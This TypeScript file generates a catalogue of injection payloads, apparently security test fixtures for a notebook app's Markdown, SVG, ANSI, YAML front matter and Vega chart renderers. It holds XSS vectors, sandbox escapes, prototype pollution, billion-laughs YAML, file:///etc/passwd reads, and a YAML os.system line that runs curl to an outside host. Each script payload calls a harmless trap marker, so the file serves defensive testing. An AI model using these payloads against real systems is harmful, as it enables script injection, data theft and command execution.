/**
 * What people and programs write that is hostile, by the place that it is shown in. Each mechanism of markup at each place that
 * shows text or HTML is a case, since each place has a way of its own to the page; beside them what only one place understands.
 */
import { type Mechanism, mechanisms } from './mechanisms.ts';

export type Payload = { readonly class: string; readonly what: string; readonly mark: string; readonly text: string };

export type Payloads = Readonly<Record<Place, readonly Payload[]>>;
export type Place = (typeof TEXTS)[number] | 'files' | 'Markdown' | 'HTML' | 'SVG' | 'ANSI' | 'front matter' | 'charts';

/** Places that show a text as it is. */
const TEXTS = [
  'titles',
  'errors',
  'text',
  'columns',
  'cells',
  'labels of charts',
  'versions',
  'people',
  'labels of links',
  'completions',
] as const;

export function makePayloads(away: string): Payloads {
  let count = 0;
  const payload = (name: string, what: string, make: (mark: string) => string): Payload => {
    count += 1;
    const mark = `m${count}m`;
    return { class: name, what, mark, text: make(mark) };
  };
  const marked = (name: string, fits: (text: string) => boolean = () => true): readonly Payload[] =>
    mechanisms
      .map(({ what, html }: Mechanism) => payload(name, what, (mark) => html(mark, away)))
      .filter(({ text }) => fits(text));
  const texts = Object.fromEntries(
    TEXTS.map((name) => [name, marked(name, name === 'people' ? (text) => text.length <= 80 : undefined)]),
  ) as Record<(typeof TEXTS)[number], readonly Payload[]>;
  const own = (name: string, all: Readonly<Record<string, (mark: string) => string>>): readonly Payload[] =>
    Object.entries(all).map(([what, make]) => payload(name, what, make));
  return {
    ...texts,
    files: marked('files', (text) => !text.includes('/') && Buffer.byteLength(text) < 200),
    Markdown: [...marked('Markdown'), ...own('Markdown', markdown(away))],
    HTML: marked('HTML'),
    SVG: own('SVG', svg(away)),
    ANSI: own('ANSI', ansi(away)),
    'front matter': own('front matter', frontMatter(away)),
    charts: own('charts', charts(away)),
  };
}

const markdown = (away: string): Readonly<Record<string, (mark: string) => string>> => ({
  'a link that is a script': (mark) => `[x](javascript:trap('${mark}'))`,
  'a script in other letters': (mark) => `[x](JaVaScRiPt:trap('${mark}'))`,
  'a script with entities': (mark) => `[x](&#106;avascript&colon;trap('${mark}'))`,
  'a script with a tab': (mark) => `[x](java&Tab;script:trap('${mark}'))`,
  'a script in brackets': (mark) => `[x](<javascript:trap('${mark}')>)`,
  'a script of a reference': (mark) => `[x][${mark}]\n\n[${mark}]: javascript:trap('${mark}')`,
  'a script by itself': (mark) => `<javascript:trap('${mark}')>`,
  'a script of Visual Basic': (mark) => `[x](vbscript:trap("${mark}"))`,
  'a page in an address': (mark) => `[x](data:text/html,<script>opener.trap('${mark}')</script>)`,
  'a drawing in an address': (mark) =>
    `![${mark}](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="trap('${mark}')"/>`).toString('base64')})`,
  'a picture from elsewhere': (mark) => `![${mark}](${away}/${mark})`,
  'a picture from elsewhere, without a scheme': (mark) => `![${mark}](${away.replace('http:', '')}/${mark})`,
  'a picture by backslashes': (mark) => `![${mark}](\\\\${away.replace('http://', '')}/${mark})`,
  'a picture of a reference': (mark) => `![${mark}][p${mark}]\n\n[p${mark}]: ${away}/${mark}`,
  'a picture that is a script': (mark) => `![${mark}](javascript:trap('${mark}'))`,
  'a picture in a file of the machine': (mark) => `![${mark}](file:///etc/passwd)`,
  'a picture that calls the API': (mark) => `![${mark}](/api/v1/notebooks?${mark})`,
  'a picture that signs out': (mark) => `![${mark}](/sign-out)`,
  'a picture out of its folder': (mark) => `![${mark}](data/../../api/v1/notebooks?${mark})`,
  'the end of the words of a picture': (mark) => `![" onerror="trap('${mark}')](data/x.png)`,
  'the end of the title of a picture': (mark) => `![x](data/x.png '" onerror="trap(\\'${mark}\\')')`,
  'the end of the title of a link': (mark) =>
    `[x](https://example.org '" onmouseover="trap(\\'${mark}\\')" autofocus onfocus="trap(\\'${mark}\\')')`,
  'the end of an address': (mark) => `[x](https://example.org/"onfocus="trap('${mark}')"autofocus="x)`,
  'the language of code': (mark) => `~~~"><img src=x onerror=trap('${mark}')>\ncode\n~~~`,
  'a language that is a property': (mark) => `~~~__proto__\n${mark}\n~~~`,
  'code with markup in it': (mark) => `~~~html\n<img src=x onerror=trap('${mark}')>\n~~~`,
  'code in a line': (mark) => `\`<img src=x onerror=trap('${mark}')>\``,
  'a table’s cell': (mark) => `| a |\n|---|\n| <img src=x onerror=trap('${mark}')> |`,
  'a heading that names what the page uses': (mark) =>
    `## document cookie <img name=cookie src=x onerror=trap('${mark}')>`,
  'a task': (mark) => `- [ ] <img src=x onerror=trap('${mark}')>`,
  'a formula with a link': (mark) => `$\\href{javascript:trap('${mark}')}{x}$`,
  'a formula with a picture': (mark) => `$\\includegraphics{${away}/${mark}}$`,
  'a formula with attributes': (mark) =>
    `$\\htmlData{x=1}{\\htmlId{${mark}}{\\htmlStyle{background:url(${away}/${mark})}{x}}}$`,
  'a formula with markup': (mark) => `$\\text{<img src=x onerror=trap('${mark}')>}$`,
  'a formula that never ends': (mark) => `$\\def\\a{\\a\\a}\\a \\text{${mark}}$`,
  'a formula that is wrong, with markup': (mark) => `$\\frac{<img src=x onerror=trap('${mark}')>$`,
  'markup cut by a line': (mark) => `<img src=x\nonerror=trap('${mark}')>`,
  'an address by itself': (mark) => `https://example.org/"><img/src=x/onerror=trap('${mark}')>`,
  'letters that turn around': (mark) => `\u202e<img src=x onerror=trap('${mark}')>\u202c`,
  'zeros between': (mark) => `<im\0g src=x onerror=trap('${mark}')>`,
  'a comment of ours': (mark) => `<!-- gondola {"chart": "<img src=x onerror=trap('${mark}')>"} -->`,
});

const svg = (away: string): Readonly<Record<string, (mark: string) => string>> => ({
  'a script': (mark) => `<script>trap('${mark}')</script>`,
  'a script of another sort': (mark) => `<script type="application/ecmascript">trap('${mark}')</script>`,
  'a script from elsewhere': (mark) => `<script href="${away}/${mark}"/>`,
  'a handler': (mark) => `<g onload="trap('${mark}')"/>`,
  'a picture': (mark) => `<image href="${away}/${mark}" width="9" height="9"/>`,
  'a picture in the old way': (mark) => `<image xlink:href="${away}/${mark}" width="9" height="9"/>`,
  'a part of another drawing': (mark) => `<use href="${away}/${mark}#a"/>`,
  'HTML inside': (mark) =>
    `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${away}/${mark}"/></foreignObject>`,
  'a frame inside': (mark) =>
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}/${mark}"/></foreignObject>`,
  'an animation': (mark) =>
    `<rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="trap('${mark}')"/></rect>`,
  'an address that is set': (mark) =>
    `<a href="#"><set attributeName="href" to="javascript:trap('${mark}')"/><text y="9">x</text></a>`,
  'a style': (mark) => `<style>@import url(${away}/${mark});</style>`,
  'a fill': (mark) => `<rect width="9" height="9" fill="url(${away}/${mark}#a)"/>`,
  'a filter': (mark) =>
    `<filter id="f${mark}"><feImage href="${away}/${mark}"/></filter><rect width="9" height="9" filter="url(#f${mark})"/>`,
  'a mask': (mark) => `<rect width="9" height="9" mask="url(${away}/${mark}#m)"/>`,
  'a cursor': (mark) => `<rect width="9" height="9" style="cursor:url(${away}/${mark}),auto"/>`,
  'a way for text': (mark) => `<text><textPath href="${away}/${mark}#p">x</textPath></text>`,
  'a pattern of another': (mark) => `<pattern id="p${mark}" href="${away}/${mark}#p"/>`,
});

const ESC = '\u001b';
const ansi = (away: string): Readonly<Record<string, (mark: string) => string>> => ({
  'a link (OSC 8)': (mark) => `${ESC}]8;;${away}/${mark}${ESC}\\${mark}${ESC}]8;;${ESC}\\`,
  'a link that is a script': (mark) => `${ESC}]8;;javascript:trap('${mark}')${ESC}\\${mark}${ESC}]8;;${ESC}\\`,
  'a link that ends by a bell': (mark) => `${ESC}]8;;javascript:trap('${mark}')\u0007${mark}${ESC}]8;;\u0007`,
  'a link with markup in its id': (mark) =>
    `${ESC}]8;id="><img src=x onerror=trap('${mark}')>;x${ESC}\\${mark}${ESC}]8;;${ESC}\\`,
  'a link that never ends': (mark) => `${mark}${ESC}]8;;${away}/${mark}`,
  'a title of the window': (mark) => `${ESC}]0;<img src=x onerror=trap('${mark}')>\u0007${mark}`,
  'the clipboard': (mark) => `${ESC}]52;c;${Buffer.from(mark).toString('base64')}\u0007${mark}`,
  'a picture of iTerm': (mark) => `${ESC}]1337;File=inline=1:${Buffer.from(mark).toString('base64')}\u0007${mark}`,
  'a picture of sixels': (mark) => `${ESC}Pq#0;2;0;0;0#0~~${ESC}\\${mark}`,
  'a notification': (mark) => `${ESC}]777;notify;${mark};<img src=x onerror=trap('${mark}')>${ESC}\\${mark}`,
  'a colour with markup': (mark) => `${ESC}[38;2;"><img src=x onerror=trap('${mark}')>;0;0m${mark}`,
  'a colour with a style': (mark) => `${ESC}[48;2;1;1;url(${away}/${mark})m${mark}`,
  'a colour past all numbers': (mark) => `${ESC}[38;5;99999999999999999999m${mark}${ESC}[0m`,
  'weights around markup': (mark) => `${ESC}[1m<img src=x ${ESC}[4monerror=trap('${mark}')>${ESC}[0m`,
  'markup cut by a sequence': (mark) => `<im${ESC}[31mg src=x onerror=trap('${mark}')>`,
  'markup written over': (mark) => `<b>aaaaaa\r<img src=x onerror=trap('${mark}')>`,
  'markup by backspaces': (mark) => `xxxx\b\b\b\b<img src=x onerror=trap('${mark}')>`,
  'an answer asked for': (mark) => `${ESC}[6n${ESC}[c${ESC}P$qm${ESC}\\${mark}`,
  'a key made up': (mark) => `${ESC}P+q6b31${ESC}\\${ESC}[?1049h${mark}`,
  'one letter for a sequence': (mark) => `\u009b31m\u009d8;;javascript:trap('${mark}')\u009c${mark}`,
  'an escape at the end': (mark) => `${mark}<img src=x onerror=trap('${mark}')>${ESC}[`,
});

const frontMatter = (away: string): Readonly<Record<string, (mark: string) => string>> => ({
  'a function': (mark) => `title: !!js/function "function () { trap('${mark}') }"`,
  'an object of Python': (mark) => `title: !!python/object/apply:os.system ["curl ${away}/${mark}"]`,
  'a title that is a map': (mark) => `title: {toString: "<img src=x onerror=trap('${mark}')>"}`,
  'a title that is a list': (mark) => `title: ["<img src=x onerror=trap('${mark}')>"]`,
  'a prototype': (mark) =>
    `__proto__: {title: "<img src=x onerror=trap('${mark}')>"}\nconstructor: {prototype: {x: ${mark}}}`,
  'a merged prototype': (mark) => `x: &x {__proto__: {polluted: ${mark}}}\ny:\n  <<: *x`,
  laughs: (mark) =>
    `a: &a [${mark}, ${mark}]\n${'bcdefghij'.replaceAll(/./g, (letter) => `${letter}: &${letter} [${`*${String.fromCharCode(letter.charCodeAt(0) - 1)},`.repeat(9)}]\n`)}`,
  'an included file': (mark) => `title: !include ${away}/${mark}`,
  'forms with markup': (mark) =>
    `forms:\n  "<img src=x onerror=trap('${mark}')>": "<img src=x onerror=trap('${mark}')>"`,
  'a title of many lines': (mark) => `title: |\n  <script>\n  trap('${mark}')\n  </script>`,
  'a title with letters that turn': (mark) => `title: "\\u202e${mark} gnp.x\\u0000"`,
});

const data = (more: object) => JSON.stringify({ height: 20, data: { values: [{ a: 1 }] }, mark: 'point', ...more });
const expression = (expr: string): string =>
  data({ transform: [{ calculate: expr, as: 'b' }], encoding: { x: { field: 'b' } } });

const charts = (away: string): Readonly<Record<string, (mark: string) => string>> => ({
  'rows from elsewhere': (mark) => data({ data: { url: `${away}/${mark}` } }),
  'rows from this server': (mark) => data({ data: { url: `/api/v1/notebooks?${mark}` } }),
  'rows from a file': (mark) => data({ data: { url: 'file:///etc/passwd', name: mark } }),
  'rows looked up elsewhere': (mark) =>
    data({ transform: [{ lookup: 'a', from: { data: { url: `${away}/${mark}` }, key: 'a', fields: ['b'] } }] }),
  'a map from elsewhere': (mark) =>
    data({ data: { url: `${away}/${mark}`, format: { type: 'topojson', feature: 'x' } }, mark: 'geoshape' }),
  'pictures as marks': (mark) => data({ mark: { type: 'image', url: `${away}/${mark}`, width: 9, height: 9 } }),
  'pictures of a field': (mark) =>
    data({ data: { values: [{ a: `${away}/${mark}` }] }, mark: 'image', encoding: { url: { field: 'a' } } }),
  'a link of a mark': (mark) => data({ mark: { type: 'point', href: `javascript:trap('${mark}')` } }),
  'a link of a field': (mark) =>
    data({ data: { values: [{ a: `javascript:trap('${mark}')` }] }, encoding: { href: { field: 'a' } } }),
  'a schema from elsewhere': (mark) => data({ $schema: `${away}/${mark}` }),
  'options of an embedder': (mark) =>
    data({
      usermeta: {
        embedOptions: {
          loader: { baseURL: away },
          actions: { editor: true },
          sourceHeader: `<img src=${away}/${mark}>`,
        },
      },
    }),
  'a background': (mark) => data({ background: `url(${away}/${mark})` }),
  'a font': (mark) => data({ config: { font: `x; src: url(${away}/${mark})` } }),
  'a description with markup': (mark) => data({ description: `"><img src=x onerror=trap('${mark}')>` }),
  'titles with markup': (mark) =>
    data({ title: { text: `<img src=x onerror=trap('${mark}')>`, subtitle: `<script>trap('${mark}')</script>` } }),
  'a legend with markup': (mark) =>
    data({
      data: { values: [{ a: 1, b: `<img src=x onerror=trap('${mark}')>` }] },
      encoding: { color: { field: 'b', type: 'nominal' } },
    }),
  'a tooltip with markup': (mark) => data({ mark: { type: 'point', tooltip: `<img src=x onerror=trap('${mark}')>` } }),
  'a control bound to elsewhere': (mark) =>
    data({ params: [{ name: 'p', value: 1, bind: { element: `body, [x="${mark}"]`, event: 'click' } }] }),
  'a control with markup': (mark) =>
    data({ params: [{ name: 'p', value: 1, bind: { input: 'range', name: `<img src=x onerror=trap('${mark}')>` } }] }),
  'the function that makes functions': (mark) => expression(`toString.constructor('trap("${mark}")')()`),
  'the constructor of a text': (mark) => expression(`''['constructor']['constructor']('trap("${mark}")')()`),
  'the constructor of a row': (mark) => expression(`datum['constructor']['constructor']('trap("${mark}")')()`),
  'the prototype of a row': (mark) => expression(`datum.__proto__.constructor.constructor('trap("${mark}")')()`),
  'the window': (mark) => expression(`window.trap('${mark}')`),
  this: (mark) => expression(`this.trap('${mark}')`),
  'a name of the worker': (mark) => expression(`self.fetch('${away}/${mark}')`),
  'a fetch': (mark) => expression(`fetch('${away}/${mark}')`),
  'scripts imported': (mark) => expression(`importScripts('${away}/${mark}')`),
  'a pattern with a function': (mark) => expression(`replace('x', /x/, fetch('${away}/${mark}'))`),
  'an event’s parts': (mark) => data({ params: [{ name: 'p', value: 1, expr: `event.view.trap('${mark}')` }] }),
  'a view’s parts': (mark) =>
    data({ params: [{ name: 'p', value: 1, expr: `containerSize().constructor.constructor('trap("${mark}")')()` }] }),
  'a label that is an expression': (mark) =>
    data({
      encoding: { x: { field: 'a', axis: { labelExpr: `datum.constructor.constructor('trap("${mark}")')()` } } },
    }),
  'a field that is a path': (mark) =>
    data({ encoding: { x: { field: `constructor.constructor['trap("${mark}")']` } } }),
  'a field that is code': (mark) => data({ encoding: { x: { field: `a']; trap('${mark}'); //` } } }),
  'a name that is a prototype': (mark) =>
    data({ data: { name: '__proto__', values: [{ a: mark }] }, datasets: { constructor: [{ a: mark }] } }),
  'Vega itself': (mark) =>
    JSON.stringify({
      $schema: 'https://vega.github.io/schema/vega/v6.json',
      data: [{ name: 'x', url: `${away}/${mark}` }],
      marks: [],
    }),
});
